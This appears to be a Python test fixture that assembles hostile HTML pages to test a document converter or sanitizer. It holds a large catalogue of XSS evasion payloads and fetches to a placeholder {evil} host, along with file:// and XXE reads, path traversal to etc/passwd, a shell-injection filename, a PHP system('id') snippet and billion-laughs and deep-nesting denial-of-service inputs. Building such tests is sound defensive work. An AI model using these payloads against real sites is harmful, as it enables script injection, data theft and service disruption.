"""Web pages that mean harm: what runs, what fetches, what reads a file, what breaks out of its place."""

from tests.hostile import Harm, article

# ruff: noqa: E501 - a page is written as a page

RUNS = {
    "script": "<script>steal()</script>",
    "script in capitals": "<ScRiPt SRC={evil}/s.js></sCrIpT>",
    "script with a slash": "<script/x>steal()</script/x>",
    "script within script": "<scr<script>ipt>steal()</scr</script>ipt>",
    "script never closed": "<script>steal() <p>一句話。</p>",
    "script after a null": "<scr\0ipt>steal()</scr\0ipt>",
    "onerror": "<img src=x onerror=steal()>",
    "onerror without blanks": "<img/src=x/onerror=steal()>",
    "onload of the body": "<body onload=steal()><p>一句話。</p>",
    "onfocus": "<input autofocus onfocus=steal()>",
    "ontoggle": "<details open ontoggle=steal()><summary>看</summary>一句話。</details>",
    "onstart": "<marquee onstart=steal()>一句話。</marquee>",
    "onbegin": "<svg><animate onbegin=steal() attributeName=x dur=1s></svg>",
    "onload of a drawing": "<svg/onload=steal()>",
    "script in a drawing": "<svg><script>steal()</script><text>畫中的話</text></svg>",
    "script from a drawing": '<svg><script xlink:href="{evil}/s.js"/></svg>',
    "a drawing's page": '<svg><foreignObject><iframe srcdoc="<script>steal()</script>"/></foreignObject></svg>',
    "a drawing's link": '<svg><a xlink:href="javascript:steal()"><text>點這裡</text></a></svg>',
    "a drawing that sets": '<svg><set attributeName="href" to="javascript:steal()"/></svg>',
    "a formula's link": '<math><maction actiontype="statusline" xlink:href="javascript:steal()">甲</maction></math>',
    "a formula's page": "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
    "javascript": '<a href="javascript:steal()">點這裡</a>',
    "javascript in capitals": '<a href="JaVaScRiPt:steal()">點這裡</a>',
    "javascript with a tab": '<a href="java\tscript:steal()">點這裡</a>',
    "javascript with a line end": '<a href="java&NewLine;script:steal()">點這裡</a>',
    "javascript by numbers": '<a href="&#106;&#97;vascript&#58;steal()">點這裡</a>',
    "javascript by long numbers": '<a href="&#x0000006Aavascript:steal()">點這裡</a>',
    "javascript after a control": '<a href="\x01javascript:steal()">點這裡</a>',
    "javascript after a blank": '<a href="  &nbsp;javascript:steal()">點這裡</a>',
    "javascript in full width": '<a href="ｊａｖａｓｃｒｉｐｔ:steal()">點這裡</a>',
    "vbscript": '<a href="vbscript:steal()">點這裡</a>',
    "a page in a link": '<a href="data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+">點這裡</a>',
    "a blob": '<a href="blob:{evil}/1">點這裡</a>',
    "a form": '<form action="{evil}/post"><input name=a value=密碼><button formaction="javascript:steal()">送出</button></form>',
    "a drawing for a picture": '<img alt="畫" src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22steal()%22/>">',
    "a page for a picture": '<img alt="畫" src="data:text/html,<script>steal()</script>">',
    "a page within": '<iframe srcdoc="<script>steal()</script>"></iframe>',
    "a program within": '<object data="javascript:steal()"></object><embed src="javascript:steal()"><applet code=x></applet>',
    "a style that runs": '<p style="width:expression(steal());behavior:url(x.htc);-moz-binding:url(x.xml#a)">一句話。</p>',
    "a frame": '<frameset onload=steal()><frame src="javascript:steal()"></frameset>',
    "a template": "<template><script>steal()</script><p>收著的話</p></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=steal()>">一句話。</p></noscript>',
    "a broken comment": "<!--><img src=x onerror=steal()>-->",
    "a comment by a bang": "<!-- x --!><img src=x onerror=steal()>",
    "out of a section": "<![CDATA[<script>steal()</script>]]>",
    "out of a title": "</title><script>steal()</script>",
    "out of a text area": "<textarea></textarea><script>steal()</script></textarea>",
    "out of a style": "<style><!--</style><script>steal()</script>--></style>",
    "out of an attribute": "<p title=\"'\" id='\"><script>steal()</script>'>一句話。</p>",
    "out of an anchor": '<a id="x&quot;&gt;&lt;script&gt;steal()&lt;/script&gt;" href="#x">一句話。</a>',
    "out of a name": '<p class="&lt;/p&gt;&lt;script&gt;steal()">一句話。</p><x-y onclick=steal()>一句話。</x-y>',
    "a written script": "<p>&lt;script&gt;steal()&lt;/script&gt;</p>",
    "written twice": "<p>&amp;lt;script&amp;gt;steal()&amp;lt;/script&amp;gt;</p>",
    "another alphabet": "<p>\ufeff+ADw-script+AD4-steal()+ADw-/script+AD4-</p>",
    "a program of the server": "<?php system('id') ?><p>一句話。</p><%= 7*7 %>{{ 7*7 }}",
    "xmp and plaintext": "<xmp><script>steal()</script></xmp><plaintext><script>steal()</script>",
    "ruby that runs": "<ruby onclick=steal()>漢<rt><script>steal()</script>hàn</rt></ruby>",
    "a note that runs": '<sup id="fnref1"><a href="#fn1" onclick=steal()>1</a></sup><ol><li id="fn1"><script>steal()</script>註。</li></ol>',
}

FETCHES = {
    "a picture": '<img alt="點" src="{evil}/p.png">',
    "a picture by its neighbour": '<img alt="點" src="//{host}/p.png">',
    "a picture by backslashes": '<img alt="點" src="\\\\{host}\\p.png">',
    "a set of pictures": '<picture><source srcset="{evil}/p.webp 2x"><img alt="點" srcset="{evil}/p2.png 2x"></picture>',
    "a picture that waits": '<img alt="點" data-src="{evil}/p.png" loading=lazy>',
    "a picture by ftp": '<img alt="點" src="ftp://{host}/p.png">',
    "a stylesheet": '<link rel=stylesheet href="{evil}/c.css"><style>@import "{evil}/i.css";@font-face{font-family:x;src:url({evil}/f.woff)}</style>',
    "a background": '<table background="{evil}/b.png"><tr><td style="background:url({evil}/c.png)">一句話。</td></tr></table>',
    "a base": '<base href="{evil}/"><img alt="點" src="p.png"><a href="x">點這裡</a>',
    "a refresh": '<meta http-equiv="refresh" content="0;url={evil}/r">',
    "a preload": '<link rel="preload prefetch dns-prefetch icon manifest" href="{evil}/l">',
    "an attachment": '<link rel=attachment href="{evil}/a"><a rel=attachment href="{evil}/b">附件</a>',
    "a film": '<video src="{evil}/v.mp4" poster="{evil}/v.png"><track src="{evil}/t.vtt"></video><audio src="{evil}/a.mp3"></audio>',
    "a drawing's picture": '<svg><image href="{evil}/s.png"/><use href="{evil}/s.svg#a"/><feImage href="{evil}/f.png"/></svg>',
    "a page": '<iframe src="{evil}/f"></iframe><object data="{evil}/o"></object><embed src="{evil}/e">',
    "an entity": '<!DOCTYPE html [<!ENTITY x SYSTEM "{evil}/x">]><p>&x;一句話。</p>',
    "an XML page": '<?xml version="1.0"?><?xml-stylesheet href="{evil}/x.xsl"?><!DOCTYPE html PUBLIC "-//x" "{evil}/x.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><p>一句話。</p></html>',
    "a ping": '<a href="#a" ping="{evil}/ping">點這裡</a>',
}

READS = {
    "an attachment of the machine": '<link rel=attachment href="file://{outside}"><a rel=attachment href="file://{outside}">附件</a>',
    "an entity of the machine": '<!DOCTYPE html [<!ENTITY x SYSTEM "file://{outside}">]><p>&x;一句話。</p>',
    "an included page": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{outside}" parse="text"/><!--#include virtual="{outside}"-->',
    "a style of the machine": '<style>@import "file://{outside}"; p { content: url(file://{outside}) }</style><p>一句話。</p>',
    "a link to the machine": '<a href="file://{outside}">點這裡</a>',
    "an object of the machine": '<object data="file://{outside}"></object><embed src="file:///dev/zero"><iframe src="file:///dev/zero"></iframe>',
}

PICTURES_OUTSIDE = {
    "a picture above": "../../outside.png",
    "a picture far above": "../" * 40 + "etc/passwd",
    "a picture above by percent": "..%2f..%2foutside.png",
    "a picture by its whole path": "{outside}",
    "a picture by backslashes up": "..\\..\\outside.png",
    "a picture of the machine": "file://{outside}",
    "a device": "/dev/zero",
    "a device by address": "file:///dev/zero",
    "a null in the name": "a\0.png",
    "a null by percent": "a%00.png",
    "a name without end": "長" * 3000 + ".png",
    "a folder": "./",
    "a name that is a command": "$(id).png;rm -rf .png|cat",
}

DEEP = {
    "divisions": "<div>" * 100_000 + "一句話。",
    "quotations": "<blockquote>" * 20_000 + "一句話。",
    "lists": "<ul><li>" * 20_000 + "一句話。",
    "tables": "<table><tr><td>" * 5_000 + "一句話。",
    "strong words": "<b>" * 20_000 + "一句話。",
    "links": "一句話。" + "<a " * 50_000,
    "open brackets": "一句話。" + "<" * 1_000_000,
    "comments": "一句話。" + "<!--" * 30_000,
    "entities": "<!DOCTYPE x [<!ENTITY a '&b;&b;'><!ENTITY b '&a;&a;'>]>一句話。" + "&a;" * 10_000,
    "laughter": "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "]>一句話。&a9;",
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(50_000)) + ">一句話。</p>",
    "one attribute": '<p title="' + "長" * 2_000_000 + '">一句話。</p>',
    "classes": '<p class="' + " ".join(f"c{n}" for n in range(50_000)) + '">一句話。</p>',
    "ends of nothing": "一句話。" + "</p>" * 80_000,
    "cells": "<table><tr>" + "<td>格" * 6_000 + "</table>",
    "a wide cell": '<table><tr><td colspan="1000000000" rowspan="1000000000">格</td></tr></table>',
    "a far number": '<ol start="99999999999999999999"><li value="-99999999999999999999">一句話。</li></ol>',
    "ruby in ruby": "<ruby>" * 5_000 + "漢<rt>hàn",
    "notes": "".join(f'<a id="r{n}" href="#n{n}">[{n}]</a>' for n in range(3_000))
    + "".join(f'<p id="n{n}"><a href="#r{n}">[{n}]</a>註。</p>' for n in range(3_000)),
    "frames of marks": "<i><b>" * 10_000 + "一句話。" + "</i></b>" * 10_000,
    "many short lines": "<br>" * 60_000 + "一句話。",
}


def cases() -> list[Harm]:
    """Return the pages."""
    page = "<!DOCTYPE html><html><head><meta charset=utf-8><title>毒</title></head><body><article><h1>毒</h1><p>一段平常的話，說給人聽，一共三十個字，免得人以為這裡什麼也沒有。</p>{}<p>最後一段。</p></article></body></html>"
    made = [
        article(f"{kind}: {name}", page.replace("{}", said))
        for kind, told in (("runs", RUNS), ("fetches", FETCHES), ("reads", READS))
        for name, said in told.items()
    ]
    made += [article(f"deep: {name}", page.replace("{}", said)) for name, said in DEEP.items()]
    picture = '<figure><img alt="畫" src="{}"><figcaption>畫</figcaption></figure>'
    return made + [
        article(f"outside: {name}", page.replace("{}", picture.replace("{}", said)))
        for name, said in PICTURES_OUTSIDE.items()
    ]
